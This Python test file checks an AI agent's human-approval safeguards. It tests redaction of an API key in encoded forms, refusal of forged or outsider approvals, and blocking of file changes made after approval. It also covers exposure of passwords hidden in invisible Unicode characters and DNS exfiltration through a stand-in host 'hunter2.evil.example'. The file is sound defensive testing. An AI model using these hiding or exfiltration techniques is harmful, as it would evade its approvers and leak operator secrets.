"""Getting round the people who approve: by secrets, by names that are looked up, by policies and by the clock."""

import base64
import json
import logging
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, time, timedelta
from pathlib import Path
from typing import cast

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel

from adapters.screens.cards import turn_card
from agent_core.capabilities.agents.finish import FINISH_COMMANDS
from agent_core.capabilities.files.commands import FILE_COMMANDS
from agent_core.capabilities.files.folder_workspace import FolderWorkspaces
from agent_core.capabilities.models.token_counters import Estimates
from agent_core.capabilities.web.downloads import DownloadCommands
from agent_core.capabilities.web.gateway_web import GatewayWeb
from agent_core.capabilities.web.git_clone import GitCloner
from agent_core.capabilities.web.pages import PageCommands
from agent_core.errors import AlreadyDecided, CommandError, InvalidInput, NotAllowed
from agent_core.loop.command_runner import Extensions, NextHook
from agent_core.model.agent import Agent
from agent_core.model.channel_settings import FIRST_REMINDER, QuietHours, ReminderSettings
from agent_core.model.command import CommandCall, Failed, Result
from agent_core.model.decision import Approve, ApproveEdited, Policy, PolicyChange, Reject
from agent_core.model.origin import ActorKind
from agent_core.oversight.secrets import Secrets
from agent_core.prompt.model_client import MeteredModel
from agent_core.providers.egress.gateway import EgressGateway
from agent_core.testing.examples import ANA, BEN
from agent_core.testing.files import InMemoryWorkspaces
from agent_core.testing.language_model import ScriptedModel, reply_text
from agent_core.testing.stage import Stage
from agent_core.testing.surface import RecordingSurface
from agent_core.toolset.redaction import redact_output
from agent_core.toolset.registry import CommandContext, Commands, declare
from bot.logs import Redacting
from tests.attacks.rows import attack
from tests.standins.site import Names
from tests.unit.agent_core.toolset.test_every_command import everything

# Getting round the people who approve, and getting at the operator's secrets: through the whole loop, on doubles
KEY = "sk-proj-0123456789abcdefghij"
SECRETS = Secrets.of([KEY])
WRITE = reply_text("write_to_file", {"filename": "a.txt", "text": "one\n"})
NOTHING = reply_text("do_nothing")


class Text(BaseModel):
    """What it is to say."""

    text: str


async def echo(given: Text, context: CommandContext) -> str:
    """Say something, and show it before."""
    context.report(given.text)
    if given.text.startswith("fail"):
        raise CommandError(given.text)
    return given.text


def stage_of(*replies: str) -> Stage:
    own = declare(Text, echo, label="Echo", risks=("execute",), category="code")
    commands = Commands.of(*(redact_output(each, SECRETS.redact) for each in (*FILE_COMMANDS, *FINISH_COMMANDS, own)))
    stage = Stage(model=ScriptedModel(*replies), commands=commands)
    metered_model = MeteredModel(model=stage.model, tokens=Estimates(), secrets=SECRETS)
    stage.loop = replace(stage.loop, proposer=replace(stage.loop.proposer, metered_model=metered_model))
    return stage


async def approved(stage: Stage, agent: Agent, decision: Approve | ApproveEdited | None = None) -> Agent:
    await stage.decide(agent, decision or Approve())
    return await stage.wait_until_settled(agent)


def prompts(stage: Stage) -> str:
    return "\n".join(message.content for prompt in stage.script.prompts for message in prompt)


async def result_of(said: str) -> str:
    """What a command that came by a secret gives, everywhere it is seen."""
    stage = stage_of(WRITE, NOTHING)
    agent = await stage.create()
    seen: list[str] = []
    context = CommandContext(agent=agent, files=stage.workspaces.of(agent), report=seen.append)
    try:
        seen.append((await stage.commands.get("echo").run({"text": said}, context)).text)
    except CommandError as error:
        seen.append(str(error))
    assert not [text for text in seen if KEY in text]
    return seen[-1]


SPELLINGS = {
    "A program prints the operator's API key": KEY,
    "It prints the key in base64, in the middle of other bytes": base64.b64encode(f"x{KEY}y".encode()).decode(),
    "It prints the key in hexadecimal": KEY.encode().hex(),
    "It prints the key backwards": KEY[::-1],
    "It prints the key inside JSON": json.dumps({"key": KEY}),
    "Its error message holds the key": f"fail: {KEY}",
}


@pytest.mark.parametrize(
    "said", [pytest.param(said, marks=attack("approval", tries, "hidden")) for tries, said in SPELLINGS.items()]
)
@pytest.mark.proves("secrets:hidden")
async def test_no_result_and_nothing_shown_on_the_way_holds_a_secret(said: str, answer: str) -> None:
    assert ("[secret]" in await result_of(said)) == (answer == "hidden")


@attack("approval", "A person pastes a configured key into a reply", "hidden from the model")
async def test_no_prompt_holds_a_secret(answer: str) -> None:
    stage = stage_of(WRITE, NOTHING)
    agent = await stage.create()
    await stage.service.decisions.reply(agent.id, f"Use {KEY} for it.", stage.origin())
    await stage.wait_until_settled(agent)
    assert "Use [secret] for it." in prompts(stage)
    assert KEY not in prompts(stage), answer


@attack("approval", "A model that knows a key writes it into a file", "hidden before the card is shown")
async def test_no_file_and_no_card_holds_a_secret(answer: str) -> None:
    stage = stage_of(reply_text("write_to_file", {"filename": "k.txt", "text": KEY}), NOTHING)
    agent = await stage.create()
    assert KEY not in repr(turn_card(agent, await stage.turn(agent))), answer
    await approved(stage, agent)
    assert await stage.views.file(agent.channel, agent.id, "k.txt") == b"[secret]"


@attack("approval", "A diff on a card contains a key from a file", "hidden on the card")
async def test_no_preview_holds_a_secret(answer: str) -> None:
    stage = stage_of(WRITE, reply_text("append_to_file", {"filename": "a.txt", "text": "two\n"}))
    agent = await stage.create()
    await stage.workspaces.of(agent).write("a.txt", f"{KEY}\n".encode())
    agent = await approved(stage, agent)
    assert KEY not in repr(turn_card(agent, await stage.turn(agent))), answer


@attack("approval", "An exception's traceback contains a key", "hidden in the log")
def test_no_log_line_holds_a_secret(answer: str) -> None:
    record = logging.LogRecord("bot", logging.ERROR, "", 0, "refused: %s", (KEY,), None)
    assert KEY not in Redacting("json", [KEY]).format(record), answer


@attack("approval", "The file is changed between the approval and the run", "shown again, and not run")
@pytest.mark.proves("loop:changed")
async def test_what_was_approved_is_what_runs(answer: str) -> None:
    stage = stage_of(WRITE)
    agent = await stage.create()
    await stage.workspaces.of(agent).write("a.txt", b"somebody else's\n")
    await approved(stage, agent)
    turn = await stage.turn(agent)
    assert (turn.state, bool(turn.remark)) == ("proposed", True), answer


@attack("approval", "A second click on a card that was already decided", "refused: already approved by @ana")
async def test_a_second_click_decides_nothing(answer: str) -> None:
    stage = stage_of(WRITE, NOTHING)
    agent = await stage.create()
    turn = await stage.turn(agent)
    await stage.service.decisions.decide(turn.id, Approve(), stage.origin(), shown=turn.control_hash)
    with pytest.raises(AlreadyDecided) as refused:
        await stage.service.decisions.decide(
            turn.id, ApproveEdited({"filename": "b", "text": "c"}), stage.origin(BEN), shown=turn.control_hash
        )
    assert f"refused: {str(refused.value).partition(',')[0]}" == answer


@pytest.mark.parametrize(
    "kind",
    [
        pytest.param("guest", marks=attack("approval", "A guest forges the button's request", "refused")),
        pytest.param("external", marks=attack("approval", "A person of another organisation approves", "refused")),
        pytest.param("bot", marks=attack("approval", "A bot, or another agent, approves", "refused")),
    ],
)
async def test_only_members_decide(kind: ActorKind, answer: str) -> None:
    stage = stage_of(WRITE)
    agent = await stage.create()
    outsider = replace(BEN, kind=kind)
    with pytest.raises(NotAllowed):
        await stage.decide(agent, Approve(), outsider)
    assert (await stage.turn(agent)).state == "proposed", answer


@attack("approval", "An argument contains invisible characters", "shown as code points on the card")
async def test_what_is_hidden_is_spelled_out(answer: str) -> None:
    stage = stage_of(reply_text("write_to_file", {"filename": "a.txt", "text": "x\u200by"}))
    agent = await stage.create()
    card = turn_card(agent, await stage.turn(agent))
    assert [part.text for part in card.arguments] == ["a.txt", "x⟨U+200B⟩y"], answer


PASSWORD = "hunter2!"
SECRET_POSTS = {
    "A post hides a password in variation selectors after an emoji": "".join(
        chr(0xFE00 + byte if byte < 16 else 0xE0100 + byte - 16) for byte in PASSWORD.encode()
    ),
    "A post hides a password in tag characters after a flag": "".join(chr(0xE0000 + ord(sign)) for sign in PASSWORD),
    "A post hides a password in zero-width joiners": "".join(
        "\u200d" if ord(sign) >> bit & 1 else "\u200c" for sign in PASSWORD for bit in range(8)
    ),
    "A post hides a password in spaces of different widths": "".join(chr(0x2000 + ord(sign) % 11) for sign in PASSWORD),
}


@pytest.mark.parametrize(
    "carried",
    [
        pytest.param(
            carried, marks=attack("approval", tries, "each of these characters is shown as a code point on the card")
        )
        for tries, carried in SECRET_POSTS.items()
    ],
)
@pytest.mark.proves("card:hidden")
async def test_no_character_of_a_post_is_invisible(carried: str, answer: str) -> None:
    stage = stage_of(reply_text("write_to_file", {"filename": "post.txt", "text": f"Good morning 🏴{carried}"}))
    agent = await stage.create()
    card = turn_card(agent, await stage.turn(agent))
    marks = "".join(f"⟨U+{ord(character):04X}⟩" for character in carried)
    assert card.arguments[1].text == f"Good morning 🏴{marks}", answer


@attack("approval", "Approving a command that was switched off after the card was shown", "not run")
async def test_a_command_that_was_switched_off_does_not_run(answer: str) -> None:
    stage = stage_of(WRITE, NOTHING)
    agent = await stage.create()
    written = await stage.turn(agent)
    off = stage.commands.by_name["write_to_file"].switched("DISABLED_COMMANDS names it.")
    stage.commands.by_name["write_to_file"] = off
    await approved(stage, agent)
    assert "switched off" in repr(stage.shown.cards[written.id].result), answer
    assert await stage.views.files(agent.channel, agent.id) == ()


async def change_it(call: CommandCall, context: CommandContext, following: NextHook) -> Result:
    """Change the file after the last look at it, and go on."""
    if call.name != "do_nothing":
        await context.files.write("a.txt", b"somebody else's\n")
    return await following(call, context)


@attack(
    "approval", "The file is changed between the last check and the write (TOCTOU)", "refused; the file is not touched"
)
@pytest.mark.proves("approve:same-file")
@pytest.mark.parametrize("name", ["write_to_file", "append_to_file", "delete_file"])
async def test_a_file_that_changed_at_the_last_moment_is_left_alone(name: str, answer: str, tmp_path: Path) -> None:
    arguments = {"filename": "a.txt"} if name == "delete_file" else {"filename": "a.txt", "text": "mine\n"}
    for workspaces in (InMemoryWorkspaces(), FolderWorkspaces(tmp_path)):
        model = ScriptedModel(NOTHING, reply_text(name, arguments), NOTHING)
        stage = Stage(model=model, workspaces=workspaces, extensions=Extensions(hooks=(change_it,)))
        agent = await stage.create()
        await workspaces.of(agent).write("a.txt", b"one\n")
        agent = await approved(stage, agent)
        asked = await stage.turn(agent)
        await approved(stage, agent)
        result = stage.shown.cards[asked.id].result
        assert isinstance(result, Failed)
        assert "a.txt changed after this was approved" in result.error
        assert await workspaces.of(agent).read("a.txt") == b"somebody else's\n", answer


# Carrying data out before anybody has decided: a name that is looked up tells its own server what it says
URL = "https://hunter2.evil.example/"


def web_of(names: Names) -> GatewayWeb:
    door = EgressGateway(resolve=names)
    return GatewayWeb(gateway=door, clones=GitCloner(gateway=door))


def browsing_stage(names: Names, *replies: str) -> Stage:
    stage = Stage(model=ScriptedModel(*replies))
    web = web_of(names)
    pages = PageCommands(web, stage.metered_model, stage.database).commands
    for command in (*pages, *DownloadCommands(web, stage.database).commands):
        stage.commands.register(command)
    return stage


@pytest.mark.proves("approve:nothing-leaves")
@attack(
    "approval",
    "Exfiltration by DNS: a password in a host name",
    "resolved only after an approval",
)
async def test_no_name_is_looked_up_before_a_decision(answer: str) -> None:
    names = Names()
    stage = browsing_stage(
        names, reply_text("get_hyperlinks", {"url": URL}), reply_text("get_hyperlinks", {"url": URL})
    )
    agent = await stage.create()
    assert (names.asked, (await stage.turn(agent)).state) == ([], "proposed")
    await stage.decide(agent, Reject("No."))
    await stage.wait_until_settled(agent)
    assert names.asked == []
    await stage.decide(agent, Approve())
    await stage.wait_until_settled(agent)
    assert names.asked == ["hunter2.evil.example"], answer


@attack(
    "approval",
    "Exfiltration by DNS: nonexistent names whose errors people do not see",
    "each name is a card, and each error a result",
)
async def test_a_name_that_there_is_not_is_told_as_a_result(answer: str) -> None:
    names = Names()
    stage = browsing_stage(names, reply_text("get_hyperlinks", {"url": URL}), reply_text("do_nothing"))
    agent = await stage.create()
    asked = await stage.turn(agent)
    assert asked.state == "proposed"
    await stage.decide(agent, Approve())
    await stage.wait_until_settled(agent)
    result = stage.shown.cards[asked.id].result
    assert isinstance(result, Failed)
    assert "There is no host hunter2.evil.example" in result.error, answer


async def test_no_preview_of_any_command_looks_a_name_up() -> None:
    names = Names()
    commands, context = await everything(web_of(names))
    previewed: set[str] = set()
    for command in commands.by_name.values():
        properties = cast("Mapping[str, Mapping[str, object]]", command.spec.parameters["properties"])
        kinds = {name: schema.get("type", "string") for name, schema in properties.items()}
        for text in (URL, "a.txt", "a new one", "a.mp3"):
            values: dict[object, object] = {"integer": 1, "array": [text], "string": text}
            try:
                await command.preview({name: values.get(kind, text) for name, kind in kinds.items()}, context)
                previewed.add(command.spec.name)
            except CommandError:
                continue
        if "url" in properties:
            address = {name: URL if name == "url" else "new" for name in properties}
            assert await command.preview(address, context)
            previewed.add(command.spec.name)
    assert names.asked == []
    assert {each.name for each in commands.specs if "network" in each.risks} <= previewed


@pytest.mark.slow
async def test_what_is_refused_as_it_is_written_is_told_before_anybody_is_asked() -> None:
    names = Names()
    for url in ("http://127.0.0.1/", "http://me:secret@example.org/", "ftp://example.org/", "http://intranet/"):
        stage = browsing_stage(
            names, reply_text("get_hyperlinks", {"url": url}), reply_text("get_hyperlinks", {"url": URL})
        )
        turn = await stage.turn(await stage.create())
        assert turn.call.arguments["url"] == URL
    assert names.asked == []


# Attacks on who answers for a class that runs without asking


def writing(number: int) -> str:
    return reply_text("write_to_file", {"filename": f"{number}.txt", "text": "one"})


@pytest.mark.proves("policy:chooser")
@pytest.mark.parametrize(
    "change",
    [PolicyChange.between(Policy(), Policy(free=("network",))), PolicyChange(free=("network",))],
    ids=["form", "line"],
)
async def test_a_change_that_never_showed_a_class_does_not_take_over_who_chose_it(change: PolicyChange) -> None:
    """Ben frees write. Ana's form, opened before, or her line, frees network only. Ben leaves: write asks again."""
    surface = RecordingSurface()
    stage = Stage(model=ScriptedModel(writing(1), writing(2)), surface=surface)
    agent = await stage.create()
    await stage.agent_settings.set_policy(agent.id, PolicyChange(free=("write",)), stage.origin(BEN))
    with pytest.raises(InvalidInput, match="as @ben chose: write"):
        await stage.agent_settings.set_policy(agent.id, change, stage.origin())
    surface.people[BEN.id] = replace(BEN, kind="guest")
    await stage.decide(agent, Approve())
    agent = await stage.wait_until_settled(agent)
    second = await stage.turn(agent)
    assert (second.state, [approval.by.display for approval in second.approvals]) == ("proposed", [])


@pytest.mark.proves("policy:chooser")
async def test_who_only_tightens_a_policy_is_not_named_as_who_chose_the_rest() -> None:
    stage = Stage(model=ScriptedModel(writing(1)))
    agent = await stage.create()
    await stage.agent_settings.set_policy(agent.id, PolicyChange(free=("read", "write")), stage.origin(BEN))
    agent = await stage.agent_settings.set_policy(agent.id, PolicyChange(asked=("read",)), stage.origin())
    assert (agent.policy.free, agent.free_chooser) == (("write",), BEN)


@pytest.mark.proves("policy:chooser")
@pytest.mark.parametrize(
    "change",
    [PolicyChange(free=("network",), confirmed=("write",)), PolicyChange(free=("network", "write"))],
    ids=["form", "line"],
)
async def test_who_sets_a_class_free_and_was_shown_the_others_answers_for_all(change: PolicyChange) -> None:
    stage = Stage(model=ScriptedModel(writing(1)))
    agent = await stage.create()
    await stage.agent_settings.set_policy(agent.id, PolicyChange(free=("write",)), stage.origin(BEN))
    agent = await stage.agent_settings.set_policy(agent.id, change, stage.origin())
    assert (agent.policy.free, agent.free_chooser) == (("write", "network"), ANA)


# Quiet hours that end within the hour that a clock shows twice, when summer time ends
CHANGES = [datetime(2026, 3, 28, 18, tzinfo=UTC), datetime(2026, 10, 24, 18, tzinfo=UTC)]  # before each, in Berlin
QUARTERS = st.integers(0, 95).map(lambda number: time(number // 4, number % 4 * 15))


@pytest.mark.proves("attention:reminders")
def test_a_reminder_is_not_due_before_its_time_when_summer_time_ends() -> None:
    """The wait begins at 02:10 by the second round of the clock in Berlin. It is quiet until 02:30."""
    settings = ReminderSettings(quiet=QuietHours(begins=time(18), ends=time(2, 30)), zone="Europe/Berlin")
    since = datetime(2026, 10, 25, 1, 10, tzinfo=UTC)
    due = settings.due_at(since, 0)
    assert due is not None
    assert (due >= since + FIRST_REMINDER, due - since) == (True, timedelta(minutes=20))


@pytest.mark.slow
@given(st.sampled_from(CHANGES), st.integers(0, 900), QUARTERS, QUARTERS, st.booleans())
def test_no_reminder_is_due_before_its_time(
    change: datetime, minutes: int, begins: time, ends: time, is_on: bool
) -> None:
    quiet = QuietHours(begins=begins, ends=ends)
    since = change + timedelta(minutes=minutes)
    due = ReminderSettings(quiet=quiet, weekends=is_on, zone="Europe/Berlin").due_at(since, 0)
    assert due is not None
    assert due >= since + FIRST_REMINDER
